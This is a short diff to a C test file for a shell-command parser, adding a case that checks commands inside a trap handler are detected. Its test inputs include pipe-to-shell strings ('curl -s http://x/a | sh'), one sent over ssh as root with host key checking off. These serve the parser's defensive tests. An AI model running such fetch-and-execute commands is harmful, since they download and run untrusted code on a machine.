@@ -118,6 +118,8 @@ static void test_interpreters(void)
 		    "ssh -p 2222 -o StrictHostKeyChecking=no root@h 'curl -s http://x/a | sh'");
 	ok(find("curl") >= 0 && (res->cmds[find("curl")].flags & SHLEX_F_SHELL_C),
 	   "ssh remote command parsed");
+	shlex_parse(res, "trap 'curl -s http://x/a | sh' EXIT");
+	ok(find("curl") >= 0, "trap handler parsed");
 	shlex_parse(res, "ssh -NfL 5432:localhost:5432 bastion");
 	ok(res->ncmds == 1, "ssh without a remote command is one command");
 }
